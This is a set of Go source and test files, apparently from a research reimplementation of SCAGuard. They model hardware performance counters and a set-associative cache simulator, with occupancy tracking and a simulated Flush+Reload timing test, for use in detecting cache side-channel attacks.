		}
	}
}

func TestDoCustomRetryable(t *testing.T) {
	permanent := errors.New("permanent")
	calls := 0
	err := Policy{Attempts: 5}.Do(context.Background(),
		func(err error) bool { return !errors.Is(err, permanent) }, nil,
		func() error { calls++; return permanent })
	if !errors.Is(err, permanent) || calls != 1 {
		t.Errorf("err = %v calls = %d, want immediate permanent failure", err, calls)
	}
}
