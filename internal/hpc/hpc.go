// Package hpc models the hardware performance counters of Table I of the
// paper. The execution engine fires events as it accesses the cache
// hierarchy; a Bank accumulates them globally and per instruction
// address, which is exactly the artefact the paper collects with
// perf-intel-pt and later maps onto basic blocks.
package hpc

import "fmt"

// Event enumerates the HPC events of Table I. Timestamp is listed for
// completeness but is excluded from the per-BB HPC value sum, matching
// the paper ("the sum of the selected 11 HPC events (excluding the
// timestamp)").
type Event uint8

// Table I events.
const (
	L1DLoadMiss    Event = iota // L1 Data Cache Load Miss
	L1DLoadHit                  // L1 Data Cache Load Hit
	L1DStoreHit                 // L1 Data Cache Store Hit
	L1ILoadMiss                 // L1 Instruction Cache Load Miss
	LLCLoadMiss                 // LLC Load Miss
	LLCLoadHit                  // LLC Load Hit
	LLCStoreMiss                // LLC Store Miss
	LLCStoreHit                 // LLC Store Hit
	BranchMiss                  // Branch Miss (mispredicted branch)
	BranchLoadMiss              // Branch Load Miss (BTB miss on a taken branch)
	CacheMiss                   // Cache Miss (any-level miss reaching memory)
	Timestamp                   // Timestamp (virtual cycle counter reads)
	NumEvents
)

// NumCounted is the number of events included in a BB's HPC value
// (all events except Timestamp).
const NumCounted = int(NumEvents) - 1

var eventNames = [NumEvents]string{
	L1DLoadMiss:    "l1d-load-miss",
	L1DLoadHit:     "l1d-load-hit",
	L1DStoreHit:    "l1d-store-hit",
	L1ILoadMiss:    "l1i-load-miss",
	LLCLoadMiss:    "llc-load-miss",
	LLCLoadHit:     "llc-load-hit",
	LLCStoreMiss:   "llc-store-miss",
	LLCStoreHit:    "llc-store-hit",
	BranchMiss:     "branch-miss",
	BranchLoadMiss: "branch-load-miss",
	CacheMiss:      "cache-miss",
	Timestamp:      "timestamp",
}

// String returns the perf-style event name.
func (e Event) String() string {
	if e < NumEvents {
		return eventNames[e]
	}
	return fmt.Sprintf("event(%d)", uint8(e))
}

// Counted reports whether the event contributes to a BB's HPC value.
func (e Event) Counted() bool { return e < NumEvents && e != Timestamp }

// Counts is one fixed-size counter vector over all Table I events.
type Counts [NumEvents]uint64

// Add accumulates other into c.
func (c *Counts) Add(other Counts) {
	for i := range c {
		c[i] += other[i]
	}
}

// Sum returns the paper's "HPC value": the sum of the 11 counted events.
func (c Counts) Sum() uint64 {
	var s uint64
	for e := Event(0); e < NumEvents; e++ {
		if e.Counted() {
			s += c[e]
		}
	}
	return s
}

// Total returns the sum over every event including Timestamp.
func (c Counts) Total() uint64 {
	var s uint64
	for _, v := range c {
		s += v
	}
	return s
}

// Bank accumulates events globally and attributed per instruction
// address. The zero value is not usable; call NewBank.
type Bank struct {
	global Counts
	byAddr map[uint64]*Counts
}

// NewBank returns an empty counter bank.
func NewBank() *Bank {
	return &Bank{byAddr: make(map[uint64]*Counts)}
}

// Fire records one occurrence of event e attributed to the instruction
// at addr.
func (b *Bank) Fire(e Event, addr uint64) {
	b.FireN(e, addr, 1)
}

// FireN records n occurrences at once.
func (b *Bank) FireN(e Event, addr uint64, n uint64) {
	if e >= NumEvents {
		return
	}
	b.global[e] += n
	c := b.byAddr[addr]
	if c == nil {
		c = new(Counts)
		b.byAddr[addr] = c
	}
	c[e] += n
}

// Global returns the machine-wide counter vector.
func (b *Bank) Global() Counts { return b.global }

// At returns the counters attributed to the instruction at addr.
func (b *Bank) At(addr uint64) Counts {
	if c := b.byAddr[addr]; c != nil {
		return *c
	}
	return Counts{}
}

// Addrs returns every instruction address with at least one event.
func (b *Bank) Addrs() []uint64 {
	out := make([]uint64, 0, len(b.byAddr))
	for a := range b.byAddr {
		out = append(out, a)
	}
	return out
}

// HPCValueByAddr returns addr -> Sum() for every attributed address,
// i.e. the map the pipeline folds onto basic blocks.
func (b *Bank) HPCValueByAddr() map[uint64]uint64 {
	out := make(map[uint64]uint64, len(b.byAddr))
	for a, c := range b.byAddr {
		if s := c.Sum(); s > 0 {
			out[a] = s
		}
	}
	return out
}

// Reset clears all counters.
func (b *Bank) Reset() {
	b.global = Counts{}
	b.byAddr = make(map[uint64]*Counts)
}
