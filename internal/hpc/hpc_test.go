package hpc

import (
	"testing"
	"testing/quick"
)

func TestEventNames(t *testing.T) {
	if L1DLoadMiss.String() != "l1d-load-miss" {
		t.Errorf("name = %q", L1DLoadMiss.String())
	}
	if Timestamp.String() != "timestamp" {
		t.Errorf("name = %q", Timestamp.String())
	}
	if Event(99).String() == "" {
		t.Error("unknown event must render")
	}
	// Every defined event has a distinct non-empty name.
	seen := map[string]bool{}
	for e := Event(0); e < NumEvents; e++ {
		n := e.String()
		if n == "" || seen[n] {
			t.Errorf("event %d name %q empty or duplicated", e, n)
		}
		seen[n] = true
	}
}

func TestTableIHasTwelveEvents(t *testing.T) {
	// Table I: 11 counted events + timestamp.
	if NumEvents != 12 {
		t.Errorf("NumEvents = %d, want 12", NumEvents)
	}
	if NumCounted != 11 {
		t.Errorf("NumCounted = %d, want 11", NumCounted)
	}
}

func TestCountedExcludesTimestamp(t *testing.T) {
	if Timestamp.Counted() {
		t.Error("timestamp must not be counted")
	}
	n := 0
	for e := Event(0); e < NumEvents; e++ {
		if e.Counted() {
			n++
		}
	}
	if n != NumCounted {
		t.Errorf("counted events = %d, want %d", n, NumCounted)
	}
	if Event(50).Counted() {
		t.Error("out-of-range events are not counted")
	}
}

func TestCountsSumAndTotal(t *testing.T) {
	var c Counts
	c[L1DLoadMiss] = 3
	c[LLCLoadHit] = 2
	c[Timestamp] = 100
	if c.Sum() != 5 {
		t.Errorf("Sum = %d, want 5 (timestamp excluded)", c.Sum())
	}
	if c.Total() != 105 {
		t.Errorf("Total = %d, want 105", c.Total())
	}
	var d Counts
	d[L1DLoadMiss] = 1
	c.Add(d)
	if c[L1DLoadMiss] != 4 {
		t.Errorf("Add failed: %d", c[L1DLoadMiss])
	}
}

func TestBankFireAndAttribution(t *testing.T) {
	b := NewBank()
	b.Fire(L1DLoadMiss, 0x100)
	b.Fire(L1DLoadMiss, 0x100)
	b.Fire(LLCLoadHit, 0x200)
	b.FireN(BranchMiss, 0x100, 5)

	if g := b.Global(); g[L1DLoadMiss] != 2 || g[LLCLoadHit] != 1 || g[BranchMiss] != 5 {
		t.Errorf("global = %+v", g)
	}
	if at := b.At(0x100); at[L1DLoadMiss] != 2 || at[BranchMiss] != 5 {
		t.Errorf("at 0x100 = %+v", at)
	}
	if at := b.At(0x999); at.Total() != 0 {
		t.Error("unattributed address must be zero")
	}
	if len(b.Addrs()) != 2 {
		t.Errorf("addrs = %v", b.Addrs())
	}
}

func TestBankIgnoresInvalidEvent(t *testing.T) {
	b := NewBank()
	b.Fire(Event(200), 0x1)
	if b.Global().Total() != 0 {
		t.Error("invalid event must be ignored")
	}
}

func TestHPCValueByAddr(t *testing.T) {
	b := NewBank()
	b.Fire(L1DLoadHit, 0x10)
	b.Fire(Timestamp, 0x20) // timestamp-only address must not appear
	m := b.HPCValueByAddr()
	if len(m) != 1 || m[0x10] != 1 {
		t.Errorf("HPCValueByAddr = %v", m)
	}
}

func TestBankReset(t *testing.T) {
	b := NewBank()
	b.Fire(CacheMiss, 0x1)
	b.Reset()
	if b.Global().Total() != 0 || len(b.Addrs()) != 0 {
		t.Error("reset incomplete")
	}
}

// Property: global counters always equal the sum of per-address counters.
func TestBankConsistency(t *testing.T) {
	f := func(events []uint8, addrs []uint8) bool {
		b := NewBank()
		n := len(events)
		if len(addrs) < n {
			n = len(addrs)
		}
		for i := 0; i < n; i++ {
			b.Fire(Event(events[i]%uint8(NumEvents)), uint64(addrs[i]))
		}
		var sum Counts
		for _, a := range b.Addrs() {
			sum.Add(b.At(a))
		}
		return sum == b.Global()
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Error(err)
	}
}
