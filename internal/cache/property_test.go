package cache

import (
	"math/rand"
	"testing"
	"testing/quick"
)

// Inclusion invariant: any line present in an L1 must be present in the
// LLC, under arbitrary interleavings of loads, stores, fetches and
// flushes by two owners.
func TestHierarchyInclusionProperty(t *testing.T) {
	cfg := DefaultHierarchyConfig()
	cfg.LLC = Config{Name: "LLC", Sets: 16, Ways: 2, LineSize: 64, Policy: LRU}
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		h := MustNewHierarchy(cfg)
		lines := make([]uint64, 24)
		for i := range lines {
			lines[i] = uint64(rng.Intn(64)) * 64
		}
		for i := 0; i < 300; i++ {
			addr := lines[rng.Intn(len(lines))]
			owner := Owner(rng.Intn(2))
			switch rng.Intn(4) {
			case 0:
				h.Access(addr, Load, owner)
			case 1:
				h.Access(addr, Store, owner)
			case 2:
				h.Access(addr, Fetch, owner)
			case 3:
				h.Flush(addr)
			}
			// Check inclusion for every tracked line.
			for _, l := range lines {
				if (h.L1D().Lookup(l) || h.L1I().Lookup(l)) && !h.LLC().Lookup(l) {
					return false
				}
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 25}); err != nil {
		t.Error(err)
	}
}

// Flushing always removes the line from every level, whatever came
// before.
func TestFlushRemovesEverywhereProperty(t *testing.T) {
	f := func(ops []uint16, target uint16) bool {
		h := DefaultHierarchy()
		for _, op := range ops {
			h.Access(uint64(op)*64, AccessKind(op%3), Owner(op%2))
		}
		addr := uint64(target) * 64
		h.Flush(addr)
		return !h.Cached(addr)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 60}); err != nil {
		t.Error(err)
	}
}

// All replacement policies keep the most recently accessed line
// resident (the just-filled way cannot be the next victim in any sane
// policy before another access).
func TestJustAccessedLineResidentAllPolicies(t *testing.T) {
	for _, pol := range []Policy{LRU, FIFO, Random} {
		cfg := Config{Name: "p", Sets: 4, Ways: 2, LineSize: 64, Policy: pol, Seed: 3}
		f := func(addrs []uint16) bool {
			c := MustNew(cfg)
			for _, a := range addrs {
				addr := uint64(a) * 64
				c.Access(addr, 0)
				if !c.Lookup(addr) {
					return false
				}
			}
			return true
		}
		if err := quick.Check(f, &quick.Config{MaxCount: 40}); err != nil {
			t.Errorf("policy %s: %v", pol, err)
		}
	}
}

// Occupancy conservation: the number of valid lines equals the sum of
// attacker- and other-owned lines, and never exceeds capacity.
func TestOccupancyConservation(t *testing.T) {
	f := func(ops []uint16) bool {
		c := MustNew(Config{Name: "o", Sets: 8, Ways: 4, LineSize: 64, Policy: LRU})
		for _, op := range ops {
			if op%5 == 0 {
				c.Flush(uint64(op) * 64)
			} else {
				c.Access(uint64(op)*64, Owner(op%2))
			}
		}
		st := c.Occupancy(0)
		total := float64(c.TotalLines())
		used := (st.AO + st.IO) * total
		return int(used+0.5) == c.UsedLines() && c.UsedLines() <= c.TotalLines()
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 80}); err != nil {
		t.Error(err)
	}
}

// A hierarchy access always returns one of the three latency classes.
func TestLatencyClassesProperty(t *testing.T) {
	lat := DefaultLatencies()
	f := func(addrs []uint16) bool {
		h := DefaultHierarchy()
		for _, a := range addrs {
			r := h.Access(uint64(a)*64, Load, 0)
			switch r.Latency {
			case lat.L1Hit, lat.LLCHit, lat.Memory:
			default:
				return false
			}
			if r.L1Hit && r.Latency != lat.L1Hit {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 60}); err != nil {
		t.Error(err)
	}
}
