package cache

import (
	"testing"
	"testing/quick"
)

func smallCfg() Config {
	return Config{Name: "t", Sets: 4, Ways: 2, LineSize: 64, Policy: LRU}
}

func TestConfigValidate(t *testing.T) {
	bad := []Config{
		{Name: "s", Sets: 3, Ways: 2, LineSize: 64},
		{Name: "s", Sets: 0, Ways: 2, LineSize: 64},
		{Name: "s", Sets: 4, Ways: 0, LineSize: 64},
		{Name: "s", Sets: 4, Ways: 2, LineSize: 48},
		{Name: "s", Sets: 4, Ways: 2, LineSize: 0},
	}
	for i, c := range bad {
		if err := c.Validate(); err == nil {
			t.Errorf("case %d: config %+v should fail", i, c)
		}
	}
	if err := smallCfg().Validate(); err != nil {
		t.Errorf("good config rejected: %v", err)
	}
	if got := smallCfg().SizeBytes(); got != 4*2*64 {
		t.Errorf("SizeBytes = %d", got)
	}
	if _, err := New(bad[0]); err == nil {
		t.Error("New must propagate validation errors")
	}
}

func TestSetIndexAndLineAddr(t *testing.T) {
	c := MustNew(smallCfg())
	if c.SetIndex(0) != 0 || c.SetIndex(64) != 1 || c.SetIndex(64*4) != 0 {
		t.Error("SetIndex wrong")
	}
	if c.LineAddr(0x7f) != 0x40 {
		t.Errorf("LineAddr = %#x", c.LineAddr(0x7f))
	}
}

func TestAccessHitMiss(t *testing.T) {
	c := MustNew(smallCfg())
	hit, ev := c.Access(0x1000, 0)
	if hit || ev != nil {
		t.Error("cold access must miss without eviction")
	}
	hit, _ = c.Access(0x1000, 0)
	if !hit {
		t.Error("second access must hit")
	}
	// Same line, different offset.
	hit, _ = c.Access(0x103f, 0)
	if !hit {
		t.Error("same-line access must hit")
	}
	st := c.Stats()
	if st.Hits != 2 || st.Misses != 1 {
		t.Errorf("stats = %+v", st)
	}
}

func TestLRUEviction(t *testing.T) {
	c := MustNew(smallCfg()) // 2 ways
	// Three addresses mapping to set 0: stride = sets*linesize = 256.
	a, b, d := uint64(0), uint64(256), uint64(512)
	c.Access(a, 0)
	c.Access(b, 0)
	c.Access(a, 0) // refresh a; b is now LRU
	_, ev := c.Access(d, 0)
	if ev == nil || ev.Addr != b {
		t.Fatalf("evicted = %+v, want addr %#x", ev, b)
	}
	if !c.Lookup(a) || c.Lookup(b) || !c.Lookup(d) {
		t.Error("LRU state wrong after eviction")
	}
}

func TestFIFOEviction(t *testing.T) {
	cfg := smallCfg()
	cfg.Policy = FIFO
	c := MustNew(cfg)
	a, b, d := uint64(0), uint64(256), uint64(512)
	c.Access(a, 0)
	c.Access(b, 0)
	c.Access(a, 0) // refreshing does not matter for FIFO
	_, ev := c.Access(d, 0)
	if ev == nil || ev.Addr != a {
		t.Fatalf("evicted = %+v, want addr %#x (FIFO)", ev, a)
	}
}

func TestRandomEvictionDeterministic(t *testing.T) {
	cfg := smallCfg()
	cfg.Policy = Random
	cfg.Seed = 7
	run := func() []bool {
		c := MustNew(cfg)
		for i := uint64(0); i < 8; i++ {
			c.Access(i*256, 0)
		}
		var out []bool
		for i := uint64(0); i < 8; i++ {
			out = append(out, c.Lookup(i*256))
		}
		return out
	}
	a, b := run(), run()
	for i := range a {
		if a[i] != b[i] {
			t.Fatal("random policy must be deterministic for a fixed seed")
		}
	}
}

func TestFlush(t *testing.T) {
	c := MustNew(smallCfg())
	c.Access(0x40, 0)
	if !c.Flush(0x40) {
		t.Error("flush of cached line must report true")
	}
	if c.Flush(0x40) {
		t.Error("flush of uncached line must report false")
	}
	if c.Lookup(0x40) {
		t.Error("line still present after flush")
	}
	if c.Stats().Flushes != 1 {
		t.Errorf("flush count = %d", c.Stats().Flushes)
	}
}

func TestOccupancyAndFillAll(t *testing.T) {
	c := MustNew(smallCfg())
	st := c.Occupancy(0)
	if st.AO != 0 || st.IO != 0 {
		t.Errorf("empty occupancy = %+v", st)
	}
	c.FillAll(1)
	st = c.Occupancy(0)
	if st.AO != 0 || st.IO != 1 {
		t.Errorf("filled occupancy = %+v, want AO=0 IO=1", st)
	}
	// Attacker touches one line; with 8 lines total AO=1/8 and IO=7/8.
	c.Access(0, 0)
	st = c.Occupancy(0)
	if st.AO != 0.125 || st.IO != 0.875 {
		t.Errorf("occupancy after one attacker access = %+v", st)
	}
	if st.AO+st.IO > 1 {
		t.Error("AO+IO must never exceed 1")
	}
	if c.UsedLines() != c.TotalLines() {
		t.Errorf("used = %d, total = %d", c.UsedLines(), c.TotalLines())
	}
}

func TestInvalidateAll(t *testing.T) {
	c := MustNew(smallCfg())
	c.Access(0, 0)
	c.Access(64, 1)
	c.InvalidateAll()
	if c.UsedLines() != 0 || c.Lookup(0) || c.Lookup(64) {
		t.Error("InvalidateAll left state behind")
	}
}

func TestOwnerOfLine(t *testing.T) {
	c := MustNew(smallCfg())
	c.Access(0, 1)
	if c.OwnerOfLine(0) != 1 {
		t.Error("owner not recorded")
	}
	// A hit by another process re-tags the line.
	c.Access(0, 0)
	if c.OwnerOfLine(0) != 0 {
		t.Error("owner not re-tagged on hit")
	}
	if c.OwnerOfLine(0x4000) != OwnerNone {
		t.Error("missing line must report OwnerNone")
	}
}

func TestSetOccupants(t *testing.T) {
	c := MustNew(smallCfg())
	if c.SetOccupants(0) != 0 {
		t.Error("empty set must have 0 occupants")
	}
	c.Access(0, 0)
	c.Access(256, 0) // same set
	c.Access(64, 0)  // different set
	if got := c.SetOccupants(0); got != 2 {
		t.Errorf("set 0 occupants = %d, want 2", got)
	}
	if got := c.SetOccupants(64); got != 1 {
		t.Errorf("set 1 occupants = %d, want 1", got)
	}
}

// Property: for any access sequence, AO+IO <= 1, used lines never exceed
// capacity, and a Lookup right after Access(addr) always succeeds.
func TestCacheInvariants(t *testing.T) {
	f := func(addrs []uint16, owners []uint8) bool {
		c := MustNew(smallCfg())
		for i, a := range addrs {
			owner := Owner(0)
			if i < len(owners) && owners[i]%2 == 1 {
				owner = 1
			}
			c.Access(uint64(a), owner)
			if !c.Lookup(uint64(a)) {
				return false
			}
			st := c.Occupancy(0)
			if st.AO+st.IO > 1.0000001 || st.AO < 0 || st.IO < 0 {
				return false
			}
			if c.UsedLines() > c.TotalLines() {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Error(err)
	}
}

func TestPolicyString(t *testing.T) {
	if LRU.String() != "lru" || FIFO.String() != "fifo" || Random.String() != "random" {
		t.Error("policy names wrong")
	}
	if Policy(9).String() == "" {
		t.Error("unknown policy must still render")
	}
}

// --- hierarchy ----------------------------------------------------------

func TestHierarchyAccessLevels(t *testing.T) {
	h := DefaultHierarchy()
	lat := h.Latencies()

	// Cold load: memory latency.
	r := h.Access(0x1000, Load, 0)
	if r.L1Hit || r.LLCHit || r.Latency != lat.Memory {
		t.Errorf("cold access = %+v", r)
	}
	// Warm load: L1 hit.
	r = h.Access(0x1000, Load, 0)
	if !r.L1Hit || r.Latency != lat.L1Hit {
		t.Errorf("warm access = %+v", r)
	}
	// Evict from L1 only (fill the L1 set), then expect an LLC hit.
	h2 := DefaultHierarchy()
	h2.Access(0x0, Load, 0)
	cfg := DefaultHierarchyConfig()
	l1Stride := uint64(cfg.L1D.Sets * cfg.L1D.LineSize)
	for i := uint64(1); i <= uint64(cfg.L1D.Ways); i++ {
		h2.Access(i*l1Stride*uint64(cfg.LLC.Sets/cfg.L1D.Sets), Load, 0)
	}
	// 0x0 may or may not be L1-resident depending on LLC sets mapping;
	// instead evict directly via a known conflict: use addresses with the
	// same L1 set but different LLC sets.
	h3 := DefaultHierarchy()
	base := uint64(0)
	h3.Access(base, Load, 0)
	for i := uint64(1); i <= uint64(cfg.L1D.Ways); i++ {
		// Same L1 set (stride 512 = 8 sets * 64B), different LLC sets.
		h3.Access(base+i*512, Load, 0)
	}
	r = h3.Access(base, Load, 0)
	if r.L1Hit {
		t.Fatal("expected L1 eviction of base")
	}
	if !r.LLCHit || r.Latency != lat.LLCHit {
		t.Errorf("expected LLC hit, got %+v", r)
	}
}

func TestHierarchyFetchUsesL1I(t *testing.T) {
	h := DefaultHierarchy()
	h.Access(0x2000, Fetch, 0)
	if h.L1D().Lookup(0x2000) {
		t.Error("fetch must not fill L1D")
	}
	if !h.L1I().Lookup(0x2000) || !h.LLC().Lookup(0x2000) {
		t.Error("fetch must fill L1I and LLC")
	}
}

func TestHierarchyFlushTiming(t *testing.T) {
	h := DefaultHierarchy()
	lat := h.Latencies()
	h.Access(0x3000, Load, 0)
	l, cached := h.Flush(0x3000)
	if !cached || l != lat.Flush {
		t.Errorf("flush of cached line = (%d,%v)", l, cached)
	}
	l, cached = h.Flush(0x3000)
	if cached || l != lat.FlushMiss {
		t.Errorf("flush of uncached line = (%d,%v)", l, cached)
	}
	if h.Cached(0x3000) {
		t.Error("line survived flush")
	}
}

func TestHierarchyInclusion(t *testing.T) {
	cfg := DefaultHierarchyConfig()
	// Tiny LLC forces evictions quickly.
	cfg.LLC = Config{Name: "LLC", Sets: 8, Ways: 2, LineSize: 64, Policy: LRU}
	h := MustNewHierarchy(cfg)
	// Two lines in the same LLC set (stride 8*64=512); same L1D set too.
	h.Access(0, Load, 0)
	h.Access(512, Load, 0)
	// Third conflicting line evicts LRU (0) from LLC; inclusion must
	// remove it from L1D as well.
	h.Access(1024, Load, 0)
	if h.L1D().Lookup(0) {
		t.Error("inclusion violated: line in L1D but evicted from LLC")
	}
	if h.LLC().Lookup(0) {
		t.Error("line 0 should be gone from LLC")
	}
}

func TestHierarchyFillAllAndOccupancy(t *testing.T) {
	h := DefaultHierarchy()
	h.FillAll(1)
	st := h.Occupancy(0)
	if st.AO != 0 || st.IO != 1 {
		t.Errorf("occupancy after FillAll = %+v", st)
	}
	h.InvalidateAll()
	st = h.Occupancy(0)
	if st.AO != 0 || st.IO != 0 {
		t.Errorf("occupancy after InvalidateAll = %+v", st)
	}
}

func TestHierarchyLineSizeMismatch(t *testing.T) {
	cfg := DefaultHierarchyConfig()
	cfg.L1D.LineSize = 32
	if _, err := NewHierarchy(cfg); err == nil {
		t.Error("line size mismatch must fail")
	}
	cfg2 := DefaultHierarchyConfig()
	cfg2.LLC.Sets = 3
	if _, err := NewHierarchy(cfg2); err == nil {
		t.Error("invalid level config must fail")
	}
}

func TestAccessKindString(t *testing.T) {
	if Load.String() != "load" || Store.String() != "store" || Fetch.String() != "fetch" {
		t.Error("kind names wrong")
	}
}

// Flush+Reload end-to-end at the cache level: flushing then letting the
// "victim" touch the line makes the attacker's reload fast; without the
// victim access the reload is slow. This is the core timing channel.
func TestFlushReloadChannel(t *testing.T) {
	h := DefaultHierarchy()
	shared := uint64(0x10000)

	// Round 1: victim accesses the shared line after the flush.
	h.Flush(shared)
	h.Access(shared, Load, 1) // victim
	r := h.Access(shared, Load, 0)
	fast := r.Latency

	// Round 2: victim stays quiet.
	h.Flush(shared)
	r = h.Access(shared, Load, 0)
	slow := r.Latency

	if fast >= slow {
		t.Errorf("flush+reload channel broken: fast=%d slow=%d", fast, slow)
	}
}
