// Package cache implements the set-associative cache simulator that
// underlies both the execution engine (internal/exec) and SCAGuard's
// cache-state-transition measurement (internal/model).
//
// Lines are tagged with the id of the process that installed them, which
// is what lets the simulator report the paper's cache-state occupancy
// pair (AO, IO): the fraction of lines owned by the attack program and
// the fraction owned by everyone else (Definition 3 of the paper).
package cache

import (
	"fmt"
	"math/rand"
)

// Owner identifies which process installed a cache line. OwnerNone marks
// an empty line; the execution engine uses 0 for the attacker/target
// process and 1 for the victim.
type Owner int8

// OwnerNone marks an invalid (empty) line.
const OwnerNone Owner = -1

// Policy selects the replacement policy of a cache.
type Policy uint8

// Replacement policies.
const (
	LRU Policy = iota
	FIFO
	Random
)

// String names the policy.
func (p Policy) String() string {
	switch p {
	case LRU:
		return "lru"
	case FIFO:
		return "fifo"
	case Random:
		return "random"
	}
	return fmt.Sprintf("policy(%d)", uint8(p))
}

// Config describes one cache level.
type Config struct {
	Name     string
	Sets     int // number of sets; must be a power of two
	Ways     int // associativity
	LineSize int // bytes per line; must be a power of two
	Policy   Policy
	Seed     int64 // rng seed for the Random policy
}

// Validate checks the configuration.
func (c Config) Validate() error {
	if c.Sets <= 0 || c.Sets&(c.Sets-1) != 0 {
		return fmt.Errorf("cache %q: sets %d must be a positive power of two", c.Name, c.Sets)
	}
	if c.Ways <= 0 {
		return fmt.Errorf("cache %q: ways %d must be positive", c.Name, c.Ways)
	}
	if c.LineSize <= 0 || c.LineSize&(c.LineSize-1) != 0 {
		return fmt.Errorf("cache %q: line size %d must be a positive power of two", c.Name, c.LineSize)
	}
	return nil
}

// SizeBytes returns the capacity of the configured cache.
func (c Config) SizeBytes() int { return c.Sets * c.Ways * c.LineSize }

type line struct {
	valid    bool
	tag      uint64
	owner    Owner
	lastUse  uint64 // LRU timestamp
	inserted uint64 // FIFO timestamp
}

// Stats accumulates hit/miss/flush counts.
type Stats struct {
	Hits      uint64
	Misses    uint64
	Evictions uint64
	Flushes   uint64 // lines actually removed by Flush
}

// Cache is one set-associative cache level. Create with New.
type Cache struct {
	cfg        Config
	sets       [][]line
	tick       uint64
	rng        *rand.Rand
	stats      Stats
	setShift   uint // log2(LineSize)
	setMask    uint64
	totalLines int
	usedLines  int
}

// New builds a cache from its configuration.
func New(cfg Config) (*Cache, error) {
	if err := cfg.Validate(); err != nil {
		return nil, err
	}
	c := &Cache{
		cfg:        cfg,
		sets:       make([][]line, cfg.Sets),
		rng:        rand.New(rand.NewSource(cfg.Seed)),
		setMask:    uint64(cfg.Sets - 1),
		totalLines: cfg.Sets * cfg.Ways,
	}
	for i := range c.sets {
		ways := make([]line, cfg.Ways)
		for j := range ways {
			ways[j].owner = OwnerNone
		}
		c.sets[i] = ways
	}
	for ls := cfg.LineSize; ls > 1; ls >>= 1 {
		c.setShift++
	}
	return c, nil
}

// MustNew is New that panics on configuration errors.
func MustNew(cfg Config) *Cache {
	c, err := New(cfg)
	if err != nil {
		panic(err)
	}
	return c
}

// Config returns the cache configuration.
func (c *Cache) Config() Config { return c.cfg }

// Stats returns a copy of the counters.
func (c *Cache) Stats() Stats { return c.stats }

// SetIndex maps an address to its set index.
func (c *Cache) SetIndex(addr uint64) int {
	return int((addr >> c.setShift) & c.setMask)
}

// LineAddr returns the line-aligned address containing addr.
func (c *Cache) LineAddr(addr uint64) uint64 {
	return addr &^ (uint64(c.cfg.LineSize) - 1)
}

func (c *Cache) tag(addr uint64) uint64 {
	return addr >> c.setShift >> log2(uint64(c.cfg.Sets))
}

func log2(v uint64) uint {
	var n uint
	for v > 1 {
		v >>= 1
		n++
	}
	return n
}

// Lookup reports whether addr is cached, without disturbing any
// replacement state.
func (c *Cache) Lookup(addr uint64) bool {
	set := c.sets[c.SetIndex(addr)]
	t := c.tag(addr)
	for i := range set {
		if set[i].valid && set[i].tag == t {
			return true
		}
	}
	return false
}

// EvictedLine describes a line displaced by a fill.
type EvictedLine struct {
	Addr  uint64
	Owner Owner
}

// Access performs a read or write of addr by owner. It returns whether
// the access hit, and (on a fill that displaced a valid line) the evicted
// line. Writes allocate like reads (write-allocate).
func (c *Cache) Access(addr uint64, owner Owner) (hit bool, evicted *EvictedLine) {
	c.tick++
	si := c.SetIndex(addr)
	set := c.sets[si]
	t := c.tag(addr)
	for i := range set {
		if set[i].valid && set[i].tag == t {
			set[i].lastUse = c.tick
			set[i].owner = owner // the most recent toucher owns the line
			c.stats.Hits++
			return true, nil
		}
	}
	c.stats.Misses++
	victim := c.chooseVictim(set)
	if set[victim].valid {
		c.stats.Evictions++
		ev := &EvictedLine{
			Addr:  c.reconstructAddr(set[victim].tag, si),
			Owner: set[victim].owner,
		}
		set[victim] = line{valid: true, tag: t, owner: owner, lastUse: c.tick, inserted: c.tick}
		return false, ev
	}
	c.usedLines++
	set[victim] = line{valid: true, tag: t, owner: owner, lastUse: c.tick, inserted: c.tick}
	return false, nil
}

func (c *Cache) reconstructAddr(tag uint64, setIdx int) uint64 {
	return (tag<<log2(uint64(c.cfg.Sets)) | uint64(setIdx)) << c.setShift
}

func (c *Cache) chooseVictim(set []line) int {
	// Prefer an invalid way.
	for i := range set {
		if !set[i].valid {
			return i
		}
	}
	switch c.cfg.Policy {
	case FIFO:
		best := 0
		for i := 1; i < len(set); i++ {
			if set[i].inserted < set[best].inserted {
				best = i
			}
		}
		return best
	case Random:
		return c.rng.Intn(len(set))
	default: // LRU
		best := 0
		for i := 1; i < len(set); i++ {
			if set[i].lastUse < set[best].lastUse {
				best = i
			}
		}
		return best
	}
}

// Flush removes the line containing addr, returning whether it was
// present (the timing signal Flush+Flush exploits).
func (c *Cache) Flush(addr uint64) bool {
	set := c.sets[c.SetIndex(addr)]
	t := c.tag(addr)
	for i := range set {
		if set[i].valid && set[i].tag == t {
			set[i] = line{owner: OwnerNone}
			c.stats.Flushes++
			c.usedLines--
			return true
		}
	}
	return false
}

// InvalidateAll empties the cache (counters are preserved).
func (c *Cache) InvalidateAll() {
	for si := range c.sets {
		for wi := range c.sets[si] {
			c.sets[si][wi] = line{owner: OwnerNone}
		}
	}
	c.usedLines = 0
}

// FillAll installs owner-tagged lines in every way of every set, giving
// the "cache is full of data" initial condition used when measuring a
// CST (Section III-A3: IO=1, AO=0 when owner is not the attacker).
// Synthetic tags are used so the lines do not collide with program data.
func (c *Cache) FillAll(owner Owner) {
	c.tick++
	for si := range c.sets {
		for wi := range c.sets[si] {
			c.sets[si][wi] = line{
				valid:    true,
				tag:      ^uint64(0) - uint64(wi), // high tags, disjoint from real data
				owner:    owner,
				lastUse:  c.tick,
				inserted: c.tick,
			}
		}
	}
	c.usedLines = c.totalLines
}

// State is the paper's cache state (Definition 3): AO is the occupancy
// rate of lines owned by the attack program, IO the occupancy rate of
// valid lines owned by anyone else. AO+IO <= 1 always holds.
type State struct {
	AO float64
	IO float64
}

// Occupancy computes the cache state, treating attacker as "the attack
// program" of Definition 3.
func (c *Cache) Occupancy(attacker Owner) State {
	var ao, io int
	for si := range c.sets {
		for wi := range c.sets[si] {
			l := &c.sets[si][wi]
			if !l.valid {
				continue
			}
			if l.owner == attacker {
				ao++
			} else {
				io++
			}
		}
	}
	total := float64(c.totalLines)
	return State{AO: float64(ao) / total, IO: float64(io) / total}
}

// UsedLines returns the number of valid lines.
